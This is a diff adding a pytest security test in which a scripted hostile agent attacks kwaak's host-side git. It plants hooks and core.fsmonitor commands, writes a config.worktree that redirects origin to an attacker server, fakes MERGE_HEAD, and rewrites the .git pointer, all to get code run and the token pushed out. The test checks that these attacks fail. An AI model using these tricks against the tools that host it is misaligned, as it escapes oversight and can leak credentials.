@@ -1,0 +1,133 @@
+"""A1/A2: a hostile agent attacks kwaak's host-side git through the metadata it can write.
+
+One scripted session per executor (the real ``kwaak run-agent``) tries, in order:
+
+* A1.2 a nested repository (``git init nested``) with ``core.fsmonitor`` and hooks, staged as a
+  gitlink by the agent itself — host status/add must not walk into it or commit the gitlink;
+* A1.3 a ``config.worktree`` in its git dir (the user's repository sets
+  ``extensions.worktreeConfig``) with ``core.fsmonitor`` and a redirected ``remote.origin.url``;
+* A1.4 a planted ``MERGE_HEAD`` that would turn kwaak's commit into a merge of another branch;
+* A1.1 a fake git dir ``evil.git`` (fsmonitor, hooks everywhere, its own ``origin`` pointing at the
+  attacker's server) and the worktree's ``.git`` pointer rewritten to it, by shell and by
+  ``write_file``;
+* then a normal edit, which kwaak commits and auto-pushes with the GitHub token.
+
+Every payload touches a marker file on the host *unless* it runs as an agent command (those carry
+``KWAAK_OWNER``; under ``local`` the agent may run anything itself — the attack is on kwaak's git).
+
+A2: the push must reach the user's configured remote (a token-checking smart-HTTP server) and
+nothing may reach the attacker's server; the token appears in no event, log or file.
+"""
+
+from __future__ import annotations
+
+import uuid
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import git
+from tests.git.http_git import serve_git
+from tests.security.agent_cli import EXECUTORS, agent_branch, call, require_executor, run_agent, shell
+
+HOOKS = (
+    "pre-commit",
+    "prepare-commit-msg",
+    "commit-msg",
+    "post-commit",
+    "post-index-change",
+    "reference-transaction",
+    "pre-push",
+    "post-checkout",
+    "pre-auto-gc",
+)
+
+
+def _payload(marker: Path, tag: str) -> str:
+    return f'test -n "$KWAAK_OWNER" || touch {marker}.{tag}'
+
+
+def _script(marker: Path, evil_url: str, other_sha: str) -> list[dict[str, object]]:
+    hooks = " ".join(HOOKS)
+    make_hooks = (
+        f"mkdir -p evilhooks && for h in {hooks}; do "
+        f"printf '#!/bin/sh\\n{_payload(marker, 'hook')}-$h\\n' > evilhooks/$h; chmod +x evilhooks/$h; done"
+    )
+    nested = (
+        "git init -q nested && cd nested && echo x > f && git add f && git commit -q -m nested"
+        f" && git config core.fsmonitor '{_payload(marker, 'nested-fsmonitor')}'"
+        " && mkdir -p .git/hooks && cp ../evilhooks/* .git/hooks/ && cd .. && git add nested; git status --short"
+    )
+    worktree_config = (
+        f"printf '[core]\\n\\tfsmonitor = {_payload(marker, 'worktree-config')}\\n\\thooksPath = evilhooks\\n"
+        f'[remote "origin"]\\n\\turl = {evil_url}\\n\\tpushurl = {evil_url}\\n\' '
+        '> "$(git rev-parse --git-dir)/config.worktree"; echo "config.worktree exit $?"'
+    )
+    merge_head = f'echo {other_sha} > "$(git rev-parse --git-dir)/MERGE_HEAD"; echo "MERGE_HEAD exit $?"'
+    fake_dir = (
+        "git init -q --bare evil.git"
+        f" && git --git-dir=evil.git config core.fsmonitor '{_payload(marker, 'fake-fsmonitor')}'"
+        " && git --git-dir=evil.git config core.bare false"
+        " && git --git-dir=evil.git config core.hooksPath evilhooks"
+        f" && git --git-dir=evil.git config remote.origin.url {evil_url}"
+        " && printf 'gitdir: evil.git\\n' > .git; echo \"pointer exit $?\""
+    )
+    return [
+        shell(make_hooks),
+        shell(nested),
+        shell(worktree_config),
+        shell(merge_head),
+        shell(fake_dir),
+        call("write_file", file_name=".git", content="gitdir: evil.git\n"),
+        call("write_file", file_name="notes.txt", content="agent work\n"),
+        call("stop"),
+    ]
+
+
+@pytest.mark.parametrize("executor", EXECUTORS)
+def test_a1_a2_git_metadata_attacks(
+    tmp_git_repo: Path, tmp_path: Path, executor: str, request: pytest.FixtureRequest
+) -> None:
+    require_executor(executor, request, tmp_git_repo)
+    repo = tmp_git_repo
+    git(repo, "config", "core.repositoryformatversion", "1")
+    git(repo, "config", "extensions.worktreeConfig", "true")
+    other_sha = git(repo, "commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "other work").strip()
+    git(repo, "branch", "other", other_sha)  # not reachable from main
+    marker = tmp_path / "HOST-MARKER"
+    token = f"ghp_SENTINEL{uuid.uuid4().hex}"
+    evil_root = tmp_path / "evil-server"
+    evil_root.mkdir()
+    git(evil_root, "init", "-q", "--bare", "x.git")
+    with serve_git(tmp_path, token) as real, serve_git(evil_root, "attacker") as evil:
+        git(repo, "remote", "set-url", "origin", real.url("remote.git"))
+        run = run_agent(
+            repo,
+            _script(marker, evil.url("x.git"), other_sha),
+            executor=executor,
+            top=f'github_api_key = "text:{token}"',
+            git_table='auto_push_remote = true\nremote = "origin"',
+        )
+        evil_requests = list(evil.auth_headers)
+        real_auth = list(real.auth_headers)
+    assert run.code == 0, run.stderr[-3000:]
+
+    # A1: nothing ran on the host.
+    assert sorted(p.name for p in tmp_path.glob("HOST-MARKER*")) == []
+
+    # The agent's work landed in the real repository, on its branch, as ordinary commits.
+    branch = agent_branch(repo)
+    assert git(repo, "show", f"{branch}:notes.txt").strip() == "agent work"
+    tree = git(repo, "ls-tree", "-r", branch)
+    assert " commit " not in tree, f"a gitlink was committed:\n{tree}"
+    parents = git(repo, "log", "--format=%P", branch).splitlines()
+    assert all(len(p.split()) == 1 for p in parents), f"a merge commit was made: {parents}"
+    assert other_sha not in git(repo, "rev-list", branch)
+
+    # A2: the push went to the user's remote with the token, nothing to the attacker's server.
+    assert evil_requests == []
+    assert real_auth, "the real remote was contacted"
+    remote = tmp_path / "remote.git"
+    assert git(remote, "rev-parse", branch) == git(repo, "rev-parse", branch)
+    assert token not in run.written_text()
+    assert token not in git(repo, "config", "--list")
